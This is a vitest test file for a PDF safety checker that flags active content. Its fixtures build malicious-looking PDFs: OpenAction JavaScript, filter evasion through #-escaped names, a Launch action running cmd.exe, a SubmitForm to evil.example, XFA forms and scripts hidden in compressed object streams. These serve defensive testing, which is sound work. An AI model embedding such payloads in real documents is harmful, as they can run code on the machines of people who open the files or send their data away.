import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { describe, expect, it } from 'vitest';
import { checkPdf } from './pdf-check';

/** A real one-page PDF, as pdfkit (which draws our letters) writes it. */
function pdfkitPdf(): Promise<Buffer> {
  return new Promise((resolve) => {
    const doc = new PDFDocument();
    const chunks: Buffer[] = [];
    doc.on('data', (chunk: Buffer) => chunks.push(chunk));
    doc.on('end', () => resolve(Buffer.concat(chunks)));
    doc.text('Estimate 1042: clutch kit £300.00');
    doc.end();
  });
}

/** A hand-written PDF: a catalog, one page and whatever `extra` adds to the catalog. */
function tinyPdf(extra = '', trailer = ''): Buffer {
  return Buffer.from(
    [
      '%PDF-1.4',
      `1 0 obj << /Type /Catalog /Pages 2 0 R ${extra} >> endobj`,
      '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
      '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj',
      `trailer << /Root 1 0 R ${trailer} >>`,
      '%%EOF',
    ].join('\n'),
    'latin1',
  );
}

/** The same page, its catalog (with an action) compressed inside an object stream. */
function objectStreamPdf(catalog: string): Buffer {
  const objects = `${catalog}`;
  const packed = deflateSync(Buffer.from(`1 0 ${objects}`, 'latin1'));
  return Buffer.concat([
    Buffer.from('%PDF-1.5\n4 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length '),
    Buffer.from(`${packed.length} >>\nstream\n`),
    packed,
    Buffer.from(
      '\nendstream\nendobj\n3 0 obj << /Type /Page /MediaBox [0 0 612 792] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
    ),
  ]);
}

describe('checkPdf', () => {
  it('keeps a real PDF and a plain one-page PDF', async () => {
    expect(checkPdf(await pdfkitPdf())).toBe('ok');
    expect(checkPdf(tinyPdf())).toBe('ok');
    expect(checkPdf(tinyPdf('/OpenAction [3 0 R /Fit]'))).toBe('ok');
    expect(checkPdf(objectStreamPdf('<< /Type /Catalog >>'))).toBe('ok');
  });

  it.each([
    ['JavaScript on opening', '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'],
    ['an escaped name', '/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'],
    ['a launch action', '/OpenAction << /S /Launch /F (cmd.exe) >>'],
    ['a document-level script', '/Names << /JavaScript 5 0 R >>'],
    ['a form that submits', '/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>'],
    ['an XFA form', '/AcroForm << /XFA 6 0 R >>'],
  ])('refuses %s', (_label, extra) => {
    expect(checkPdf(tinyPdf(extra))).toBe('active');
  });

  it('refuses JavaScript hidden in a compressed object stream', () => {
    expect(checkPdf(objectStreamPdf('<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>'))).toBe('active');
  });

  it('is not fooled by a key or a string in the object stream dictionary, and ignores names inside strings', () => {
    const hidden = (dictionary: string) => {
      const packed = deflateSync(Buffer.from('1 0 << /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>'));
      return Buffer.concat([
        Buffer.from(`%PDF-1.5\n4 0 obj ${dictionary.replace('LENGTH', String(packed.length))}\nstream\n`),
        packed,
        Buffer.from('\nendstream\nendobj\n3 0 obj << /Type /Page >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
      ]);
    };
    expect(checkPdf(hidden('<< /Type /ObjStm /N 1 /First 4 /xobj 1 /Filter /FlateDecode /Length LENGTH >>'))).toBe(
      'active',
    );
    expect(checkPdf(hidden('<< /Type /ObjStm /Note (endobj 9 0 obj) /Filter /FlateDecode /Length LENGTH >>'))).toBe(
      'active',
    );
    expect(checkPdf(hidden('<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] /Length LENGTH >>'))).toBe(
      'unreadable',
    );
    expect(checkPdf(tinyPdf('/Title (How /JavaScript works \\(a note\\))'))).toBe('ok');
  });

  it('refuses an encrypted PDF', () => {
    expect(checkPdf(tinyPdf('', '/Encrypt 9 0 R'))).toBe('encrypted');
  });

  it('refuses what only starts like a PDF, or has no page', () => {
    expect(checkPdf(Buffer.from('%PDF-1.4\n<html><script>alert(1)</script></html>'))).toBe('unreadable');
    expect(checkPdf(Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF'))).toBe('unreadable');
    const broken = Buffer.from(
      '%PDF-1.5\n4 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot zlib\nendstream\n%%EOF',
    );
    expect(checkPdf(broken)).toBe('unreadable');
  });
});
